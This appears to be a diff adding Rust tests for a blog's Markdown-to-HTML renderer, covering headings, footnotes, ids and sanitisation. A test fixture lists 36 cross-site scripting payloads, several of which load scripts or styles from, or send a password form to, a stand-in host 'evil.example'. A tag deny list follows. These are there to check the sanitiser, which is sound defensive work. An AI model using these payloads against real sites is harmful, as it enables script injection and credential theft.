@@ -1,0 +1,136 @@
+use super::*;
+
+#[test]
+fn markdown_and_html_become_what_the_page_shows() {
+    for (markdown, html) in [
+        ("Viens *divi* ~~trīs~~", "<p>Viens <em>divi</em> <del>trīs</del></p>\n"),
+        ("<u>HTML</u> der", "<p><u>HTML</u> der</p>\n"),
+        ("a < b & c", "<p>a &lt; b &amp; c</p>\n"),
+        (
+            "[saite](https://example.com/)",
+            "<p><a href=\"https://example.com/\" rel=\"noopener\">saite</a></p>\n",
+        ),
+    ] {
+        assert_eq!(render(markdown), html);
+    }
+    let table = render("| a | b |\n|---|--:|\n| 1 | 2 |");
+    assert!(table.contains("<td align=\"right\">2</td>") && !table.contains("style"), "{table}");
+    let image = render("![Zvaigzne](/blog-images/a.webp)");
+    assert!(image.contains("src=\"/blog-images/a.webp\"") && image.contains("loading=\"lazy\""));
+}
+
+#[test]
+fn headings_begin_at_the_second_level_and_have_ids_of_their_own() {
+    let html = render("# Soļi\n\n## Pirmais\n\n## Pirmais");
+    assert!(html.contains("<h2 id=\"post-soli\">Soļi</h2>"), "{html}");
+    assert!(html.contains("<h3 id=\"post-pirmais\">"), "{html}");
+    assert!(html.contains("<h3 id=\"post-pirmais-2\">"), "{html}");
+    assert!(render("### Viens\n\n###### Divi").starts_with("<h2"), "the highest is the second");
+    let raw = render("<h1>Pats</h1>\n\n<H1 class=x>Liels</H1>");
+    assert!(raw.contains("<h2>Pats</h2>") && raw.contains("<h2>Liels</h2>"), "{raw}");
+}
+
+#[test]
+fn a_footnote_leads_to_its_place_in_the_post() {
+    let html = render("Teksts.[^1]\n\n[^1]: Piezīme.");
+    assert!(html.contains("href=\"#post-1\"") && html.contains("id=\"post-1\""), "{html}");
+}
+
+#[test]
+fn sections_are_the_words_of_a_post_under_their_headings() {
+    let markdown = "Ievads.\n\n## Soļi\n\nDivi *soļi*:\n\n- viens\n- <b>divi</b>\n\n\
+                    | a | b |\n|---|---|\n| 1 | 2 |\n\n## Tukšs";
+    let section = |heading: &str, paragraphs: &[&str]| Section {
+        heading: heading.into(),
+        paragraphs: paragraphs.iter().map(ToString::to_string).collect(),
+    };
+    let expected = [
+        section("", &["Ievads."]),
+        section("Soļi", &["Divi soļi:", "- viens", "- divi", "a; b;", "1; 2;"]),
+    ];
+    assert_eq!(sections(markdown), expected);
+}
+
+/// Inspired by the OWASP cheat sheet on filter evasion.
+const ATTACKS: [&str; 36] = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<img src=x onerror=alert(1)>",
+    "<img src=\"javascript:alert(1)\">",
+    "<IMG SRC=JaVaScRiPt:alert(1)>",
+    "<img src=`javascript:alert(1)`>",
+    "<img \"\"\"><script>alert(1)</script>\">",
+    "<img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
+    "<img src=\"jav\tascript:alert(1);\">",
+    "<img src=\"jav&#x0A;ascript:alert(1);\">",
+    "<img src=\" &#14;  javascript:alert(1);\">",
+    "<img src=/x.png/onload=alert(1)>",
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "<iframe src=javascript:alert(1)></iframe>",
+    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
+    "<object data=javascript:alert(1)></object>",
+    "<embed src=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>",
+    "<a href=\"javascript:alert(1)\">x</a>",
+    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
+    "<a href=\"vbscript:msgbox(1)\">x</a>",
+    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "![x](javascript:alert(1))",
+    "<javascript:alert(1)>",
+    "<div style=\"background:url(javascript:alert(1))\">x</div>",
+    "<style>@import 'https://evil.example/x.css';</style>",
+    "<link rel=stylesheet href=https://evil.example/x.css>",
+    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
+    "<base href=https://evil.example/>",
+    "<form action=https://evil.example/><input name=password><button formaction=javascript:alert(1)>x",
+    "<body onload=alert(1)><details open ontoggle=alert(1)>x</details>",
+];
+
+#[test]
+fn nothing_in_a_post_can_run_load_styles_or_send_a_form() {
+    for attack in ATTACKS {
+        for markdown in [attack.to_owned(), format!("- text {attack}\n"), format!("> {attack}")] {
+            let html = render(&markdown);
+            // What was written as text may stay as text: only tags count.
+            for tag in html.split('<').skip(1).filter_map(|rest| rest.split('>').next()) {
+                let tag = tag.to_lowercase();
+                for bad in [
+                    "script", "style", "svg", "math", "iframe", "object", "embed", "link", "meta",
+                    "base", "form", "input", "button", "body", "vbscript", "data:",
+                ] {
+                    assert!(!tag.contains(bad), "{markdown}\n{html}");
+                }
+                assert!(!tag.contains(" on"), "{markdown}\n{html}");
+            }
+        }
+    }
+}
+
+#[test]
+fn ids_of_a_post_are_never_those_of_the_page() {
+    let html = render("# State\n\n<p id=root>a</p><a name=state href=#root>b</a>");
+    assert!(html.contains("id=\"post-state\"") && html.contains("id=\"post-root\""), "{html}");
+    assert!(html.contains("href=\"#post-root\"") && !html.contains("name="), "{html}");
+}
+
+#[test]
+fn pictures_come_from_here_or_over_https() {
+    for bad in ["http://images.example/a.png", "//images.example/a.png", "data:image/png;base64,AA"]
+    {
+        assert!(!render(&format!("![x]({bad})")).contains("src="), "{bad}");
+    }
+    assert!(render("![x](https://images.example/a.png)").contains("src=\"https://images"));
+}
+
+#[test]
+fn deep_nesting_is_no_danger() {
+    for piece in ["<div>", "> ", "<b><i>", "[", "*a ", "- "] {
+        let html = render(&piece.repeat(100_000 / piece.len()));
+        assert!(!html.contains("script"), "{piece}");
+    }
+}
